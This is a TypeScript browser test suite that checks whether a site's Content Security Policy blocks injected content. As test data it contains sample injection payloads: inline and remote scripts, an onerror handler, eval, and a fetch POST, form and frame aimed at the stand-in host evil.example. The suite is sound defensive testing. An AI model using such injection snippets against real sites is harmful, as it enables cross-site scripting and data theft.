// What a browser is forbidden on our pages, shown in one: every page of the other journeys is read under it, and a complaint fails them.
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, inject, test } from 'vitest'
import { openBrowser, province } from '../testkit/browser.ts'

const here = inject('console')
let browser: Browser | undefined
beforeAll(async () => {
  browser = await openBrowser()
})
afterAll(() => browser?.close())

/** A page, and what the browser kept from happening on it. */
async function open(path: string): Promise<{ page: Page; kept: () => Promise<string[]> }> {
  if (!browser || here.address === null) throw new Error('The product did not come up.')
  const context = await browser.newContext({ ...province, baseURL: here.address })
  const page = await context.newPage()
  await page.addInitScript(() => {
    const kept: string[] = []
    Object.assign(window, { kept })
    document.addEventListener('securitypolicyviolation', (one) => kept.push(one.effectiveDirective))
  })
  await page.goto(path)
  await page.locator('h1, h2').first().waitFor()
  return { page, kept: () => page.evaluate<string[]>('window.kept') }
}

test('a page as it is gives the browser nothing to keep back', async () => {
  const { page, kept } = await open('/')
  expect(await kept()).toEqual([])
  await page.context().close()
})

test.each([
  [
    'a script in the page',
    'script-src-elem',
    `const s = document.createElement('script'); s.textContent = 'window.ran = true'; document.body.append(s)`,
  ],
  [
    'a script of another site',
    'script-src-elem',
    `const s = document.createElement('script'); s.src = 'https://evil.example/a.js'; document.body.append(s)`,
  ],
  [
    'a script in an attribute',
    'script-src-attr',
    `document.body.insertAdjacentHTML('beforeend', '<img src="/none.png" onerror="window.ran = true">')`,
  ],
  ['text that becomes a script', 'script-src', `setTimeout(() => { window.ran = new Function('return true')() })`],
  [
    'a style in the page',
    'style-src-elem',
    `const s = document.createElement('style'); s.textContent = 'body { display: none }'; document.body.append(s)`,
  ],
  [
    'a style in an attribute',
    'style-src-attr',
    `document.body.insertAdjacentHTML('beforeend', '<p style="position: fixed">')`,
  ],
  ['a picture of another site', 'img-src', `new Image().src = 'https://evil.example/a.png'`],
  [
    'a call to another site',
    'connect-src',
    `fetch('https://evil.example/', { method: 'POST', body: 'x' }).catch(() => {})`,
  ],
  [
    'a frame',
    'frame-src',
    `const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f)`,
  ],
  [
    'a form to another site',
    'form-action',
    `const f = document.createElement('form'); f.action = 'https://evil.example/'; document.body.append(f); f.submit()`,
  ],
  [
    'another base of addresses',
    'base-uri',
    `const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b)`,
  ],
])('what somebody slips in does not happen: %s', async (_, directive, slipped) => {
  const { page, kept } = await open('/')
  await page.evaluate(slipped)
  await expect.poll(kept).toContain(directive)
  expect(await page.evaluate('window.ran')).toBeUndefined()
  await page.context().close()
})

test('no other site shows our pages in a frame', async () => {
  const { page } = await open('/')
  const answer = await page.request.get('/')
  expect(answer.headers()['content-security-policy']).toContain("frame-ancestors 'none'")
  expect(answer.headers()['x-frame-options']).toBe('DENY')
  await page.context().close()
})
